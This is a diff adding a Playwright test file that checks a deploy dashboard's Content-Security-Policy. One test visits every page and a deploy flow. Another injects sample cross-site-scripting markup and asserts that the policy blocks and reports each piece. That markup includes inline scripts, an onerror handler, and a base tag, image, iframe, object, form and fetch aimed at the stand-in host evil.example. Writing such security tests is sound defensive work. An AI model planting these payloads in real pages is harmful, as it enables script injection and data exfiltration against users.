@@ -1,0 +1,95 @@
+import { readdirSync } from 'node:fs'
+import path from 'node:path'
+import { expect, type Page } from '@playwright/test'
+import { deploy, test, tile } from '~test/e2e/operator'
+
+const app = path.resolve(import.meta.dirname, '../../src/app')
+
+/** Every page there is, from the files themselves. */
+const PAGES = readdirSync(app, { recursive: true, encoding: 'utf8' })
+  .filter((file) => path.basename(file) === 'page.tsx')
+  .map((file) => `/${path.dirname(file)}`.replace(/\/\.$/, '/').replace('[id]', 'api-staging'))
+
+declare global {
+  interface Window {
+    violations: string[]
+  }
+}
+
+/** From before the first script of every page this one goes to. */
+const noteViolations = (page: Page) =>
+  page.addInitScript(() => {
+    window.violations = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      window.violations.push(`${effectiveDirective} ${blockedURI} ${sample}`)
+    })
+  })
+
+const violationsOf = (page: Page) => page.evaluate(() => window.violations)
+
+test('no page, dialog or running deploy needs anything that the policy refuses', async ({ page, product }) => {
+  await noteViolations(page)
+  expect(PAGES).toEqual(expect.arrayContaining(['/', '/audit', '/flags', '/freezes', '/surfaces/api-staging']))
+  for (const address of [...PAGES, '/no-such-page']) {
+    await page.goto(`${product.url}${address}`)
+    // What a page needs its scripts for: all have a heading, and all but the last load something.
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    await expect(page.locator('[aria-busy="true"]')).toHaveCount(0)
+    expect(await violationsOf(page), address).toEqual([])
+  }
+
+  await page.goto(product.url)
+  await tile(page, 'api-staging')
+    .getByRole('button', { name: /^Deploy/ })
+    .click()
+  const dialog = page.getByRole('dialog')
+  await dialog.getByRole('combobox').click()
+  await dialog.getByRole('combobox').fill('ma')
+  await expect(page.getByRole('option').first()).toBeVisible()
+  await page.keyboard.press('Escape')
+  await page.goto(product.url)
+  await deploy(page, 'api-staging')
+  await expect(page.getByRole('dialog').locator('[data-status]')).toHaveAttribute('data-status', 'succeeded', {
+    timeout: 90_000,
+  })
+  expect(await violationsOf(page)).toEqual([])
+})
+
+/** What somebody would plant, if a place were found that does not escape. */
+const PLANTED = `
+  <script>window.ran = 'script'</script>
+  <script src="/_next/static/none.js"></script>
+  <img src="data:," onerror="window.ran = 'handler'">
+  <style>body { display: none }</style>
+  <p style="display: none">planted</p>
+  <img src="https://evil.example/image.png">
+  <iframe src="https://evil.example"></iframe>
+  <object data="https://evil.example"></object>
+  <form action="https://evil.example"><button id="planted-send">Send</button></form>`
+
+test('what gets into a page from outside neither runs, loads nor sends, and the test above would notice it', async ({
+  browser,
+  product,
+}) => {
+  // A page of its own: here the browser is to report errors.
+  const page = await browser.newPage()
+  await noteViolations(page)
+  await page.route(product.url, async (route) => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('<head>', '<head><base href="https://evil.example">')
+    await route.fulfill({ response, body: body.replace('</body>', `${PLANTED}</body>`) })
+  })
+  await page.goto(product.url)
+  await expect(page.getByText('planted')).toBeVisible()
+  await page.locator('#planted-send').evaluate((button: HTMLButtonElement) => button.click())
+  await page.evaluate(async () => {
+    await fetch('https://evil.example').catch(() => undefined)
+  })
+  const refused = ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']
+  const elsewhere = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src']
+  await expect
+    .poll(async () => [...new Set((await violationsOf(page)).map((violation) => violation.split(' ')[0]))].toSorted())
+    .toEqual([...refused, ...elsewhere].toSorted())
+  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
+  await page.close()
+})
